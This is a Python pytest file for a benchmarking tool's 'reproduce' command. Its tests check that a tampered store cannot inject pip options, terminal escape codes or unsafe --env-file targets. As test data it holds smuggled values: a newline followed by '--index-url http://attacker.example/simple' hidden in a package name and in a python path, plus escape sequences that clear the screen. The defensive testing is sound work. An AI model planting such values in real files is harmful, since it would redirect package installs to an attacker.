"""Issue 41: stored text is data, never a command. A store from someone else cannot make `dlbench reproduce`
write an --index-url line into a requirements file, clear the reader's screen, or end in a traceback; its
--env-file never replaces a store, a link's target, a FIFO or the kernel's files."""

from __future__ import annotations

import hashlib
import os
import sqlite3
from collections.abc import Callable
from pathlib import Path

import pytest

from dlbench.analysis.record import environment
from dlbench.protocol.stats import summarize
from dlbench.records import PointResult, RankRaw, RepeatRaw
from dlbench.spec import PointSpec, Protocol
from dlbench.store.request import REQUEST_KEY, Request
from dlbench.store.store import Store

CliResult = tuple[int, str, str]


def stored(db: Path, request: dict[str, object]) -> str:
    """A point whose stored request is exactly `request` (as a tampered store holds it); its uid."""
    store = Store(db)
    rid = store.create_run("dlbench run -f fake -m alexnet")
    spec = PointSpec(framework="fake", model="alexnet", batch_size=2, protocol=Protocol(1, 3, 3, "median", "quick"))
    ranks = (RankRaw(0, tuple(RepeatRaw((0.01,) * 3, 0.03) for _ in range(3))),)
    result = PointResult(spec, "ok", ranks, summarize(spec, ranks), environment(spec, {}), started=1.0, finished=2.0)
    store.add_point(rid, PointResult(**{**result.__dict__, "extra": {REQUEST_KEY: request}}))
    store.finish_run(rid, "done")
    uid = store.points([rid])[0].uid
    store.close()
    return uid


def _digest(db: Path) -> str:
    con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return hashlib.sha256("\n".join(con.iterdump()).encode()).hexdigest()
    finally:
        con.close()


def good() -> dict[str, object]:
    return Request(command="dlbench run", python="/usr/bin/python3", packages=(("numpy", "2.1.0"),)).to_dict()


def test_env_file_never_replaces_the_store_a_link_or_a_fifo(
    store_path: Path, tmp_path: Path, cli: Callable[..., CliResult], monkeypatch: pytest.MonkeyPatch
) -> None:
    uid = stored(store_path, good())
    before = _digest(store_path)
    target = tmp_path / "mine.txt"
    target.write_text("the user's own\n")
    (tmp_path / "link.txt").symlink_to(target)
    os.mkfifo(tmp_path / "fifo")
    for path, said in (
        (store_path, "is a SQLite database (a store)"),
        (tmp_path / "link.txt", "is a symbolic link"),
        (tmp_path / "fifo", "is a FIFO"),  # refused before it is opened: nothing blocks
        (Path("/proc/self/comm"), "the kernel's own files"),
    ):
        code, out, err = cli("reproduce", uid[:8], "--env-file", str(path), "--store", str(store_path))
        assert code == 2 and len(err.strip().splitlines()) == 1 and said in err, err
        assert out == ""  # refused before anything is shown
    assert _digest(store_path) == before and target.read_text() == "the user's own\n"
    monkeypatch.chdir(tmp_path)  # a relative --env-file: the line names where it went, as run names its store
    code, out, err = cli("reproduce", uid[:8], "--env-file", "r.txt", "--store", str(store_path))
    assert code == 0 and (tmp_path / "r.txt").read_text().splitlines()[-1] == "numpy==2.1.0", err
    assert f"to {tmp_path / 'r.txt'} (pip install -r {tmp_path / 'r.txt'})" in out


def test_a_newline_in_a_locked_name_never_becomes_a_pip_option(
    store_path: Path, tmp_path: Path, cli: Callable[..., CliResult]
) -> None:
    request = good()
    request["packages"] = {"numpy": "2.1.0", "evil\n--index-url http://attacker.example/simple": "1.0"}
    uid = stored(store_path, request)
    out_file = tmp_path / "requirements.txt"
    code, _, err = cli("reproduce", uid[:8], "--env-file", str(out_file), "--store", str(store_path))
    assert code == 2 and len(err.strip().splitlines()) == 1, err
    assert "unreadable, field packages" in err and "is not a requirement" in err and "\\n--index-url" in err
    assert not out_file.exists()
    request["packages"] = {"numpy": "2.1.0"}
    request["python"] = "/usr/bin/python3\n--index-url http://attacker.example/simple"  # in a comment line
    uid = stored(store_path, request)
    code, _, err = cli("reproduce", uid[:8], "--env-file", str(out_file), "--store", str(store_path))
    assert code == 0, err
    lines = out_file.read_text().splitlines()
    assert all(line.startswith("#") or line == "numpy==2.1.0" for line in lines), lines


def test_escape_codes_in_a_stored_string_are_shown_escaped(store_path: Path, cli: Callable[..., CliResult]) -> None:
    request = good()
    request["python"] = "/usr/bin/python3\x1b[2J\x1b]0;owned\x07"
    request["command"] = "dlbench run \x1b[31mred"
    uid = stored(store_path, request)
    code, out, err = cli("reproduce", uid[:8], "--store", str(store_path))
    assert code == 0, err
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b[2J" in out and "\\x1b[31mred" in out


def test_a_tampered_field_reads_as_unreadable_naming_it(store_path: Path, cli: Callable[..., CliResult]) -> None:
    for field, value in (("version", "abc"), ("python", {"a": 1}), ("packages", ["numpy"])):
        request = good()
        request[field] = value
        uid = stored(store_path, request)
        code, out, err = cli("reproduce", uid[:8], "--store", str(store_path))
        assert code == 2 and len(err.strip().splitlines()) == 1, err
        assert f"point {uid[:8]}: a stored request is unreadable, field {field}" in err and out == ""
